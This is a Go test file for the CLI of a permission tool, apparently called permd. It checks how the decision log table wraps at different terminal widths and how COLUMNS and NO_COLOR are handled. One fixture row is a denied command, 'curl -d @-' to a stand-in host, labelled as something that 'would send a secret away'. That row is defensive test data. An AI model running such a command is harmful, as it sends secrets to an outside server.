package cli

import (
	"bytes"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/permd/permd/decisions"
)

// logTable is a table as permd log list prints it.
func logTable() *Table {
	t := &Table{Flexible: []int{2, 3}}
	t.Row("11-23 20:48:26", "allow", "run git status", "only looks at the project", "01a209f2-9f88-7daa-b9b7-1227f0f5bc93")
	t.Row("11-23 20:48:27", "deny, ran", "run curl -d @- https://x.dev/ä/"+strings.Repeat("x", 16)+" (+3)", "would send a secret away", "01a209f2-9f88-7daa-b9b7-1227f0f5bc94")
	t.Row("11-23 20:48:28", "ask")
	return t
}

// TestTable prints a table in several widths: no line is longer, and ids are whole.
func TestTable(t *testing.T) {
	t.Parallel()
	for _, width := range []int{200, 120, 100, 80, 60, 50, 48} {
		var b bytes.Buffer
		if err := logTable().write(&b, width); err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(b.String()) {
			if n := utf8.RuneCountInString(strings.TrimSuffix(line, "\n")); n > width {
				t.Errorf("%d: a line of %d: %s", width, n, line)
			}
		}
		if !strings.Contains(b.String(), "01a209f2-9f88-7daa-b9b7-1227f0f5bc94") {
			t.Errorf("%d: the id is cut:\n%s", width, &b)
		}
	}
	// Shorter rows fit a line only if little is left of each column: the id has its own.
	short := &Table{Flexible: []int{2, 3}}
	short.Row("11-24 15:59:07", "ask", "run npm publish --tag x (+1)", "publishes the package", "01a20e48-47e8-7c09-b812-951b49764860")
	var b bytes.Buffer
	if err := short.write(&b, 80); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); !strings.Contains(got, "run npm publish --tag x (+1)  publishes the package\n") {
		t.Errorf("nothing can be read:\n%s", got)
	}
	want := map[int]string{
		0: `11-23 20:48:26  allow      run git status                                        only looks at the project  01a209f2-9f88-7daa-b9b7-1227f0f5bc93
11-23 20:48:27  deny, ran  run curl -d @- https://x.dev/ä/xxxxxxxxxxxxxxxx (+3)  would send a secret away   01a209f2-9f88-7daa-b9b7-1227f0f5bc94
11-23 20:48:28  ask
`,
		80: `11-23 20:48:26  allow      run git status              only looks at the project
    01a209f2-9f88-7daa-b9b7-1227f0f5bc93
11-23 20:48:27  deny, ran  run curl -d @- https://x.…  would send a secret away
    01a209f2-9f88-7daa-b9b7-1227f0f5bc94
11-23 20:48:28  ask
`,
		40: `11-23 20:48:26  allow      run git stat…
    only looks at the project
    01a209f2-9f88-7daa-b9b7-1227f0f5bc93
11-23 20:48:27  deny, ran  run curl -d …
    would send a secret away
    01a209f2-9f88-7daa-b9b7-1227f0f5bc94
11-23 20:48:28  ask
`,
	}
	for width, text := range want {
		var b bytes.Buffer
		if err := logTable().write(&b, width); err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(text, b.String()); diff != "" {
			t.Errorf("%d:\n%s", width, diff)
		}
	}
}

// TestWidth: COLUMNS says how wide a table may be where there is no terminal.
func TestWidth(t *testing.T) {
	for text, want := range map[string]int{"": 0, "80": 80, "0": 0, "-3": 0, "wide": 0} {
		t.Setenv("COLUMNS", text)
		if got := Width(new(bytes.Buffer)); got != want {
			t.Errorf("COLUMNS=%s: %d, want %d", text, got, want)
		}
	}
}

// TestNoColour: what is no terminal gets none.
func TestNoColour(t *testing.T) {
	t.Setenv("NO_COLOR", "")
	t.Setenv("TERM", "xterm")
	if got := Paint(new(bytes.Buffer), string(decisions.Deny), "deny"); got != "deny" {
		t.Errorf("%q", got)
	}
}
